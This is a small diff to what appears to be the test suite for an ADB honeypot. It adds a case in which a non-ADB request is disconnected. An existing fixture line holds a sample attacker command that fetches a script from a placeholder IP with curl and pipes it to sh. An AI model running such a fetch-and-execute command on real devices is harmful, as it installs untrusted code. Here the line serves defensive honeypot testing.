@@ -134,5 +134,6 @@ table('adb', createAdbTrap, 5555, modern, [
       { kind: 'command', line: 'shell:cd /data/local/tmp; curl http://203.0.113.9/w.sh | sh' },
     ],
   },
+  { name: 'another language is hung up on at once', sent: ['GET / HTTP/1.0\r\n\r\n'], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
   { name: 'nothing before CNXN', sent: [adb('OPEN', 1, 0, 'shell:id\0')], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
 ]);
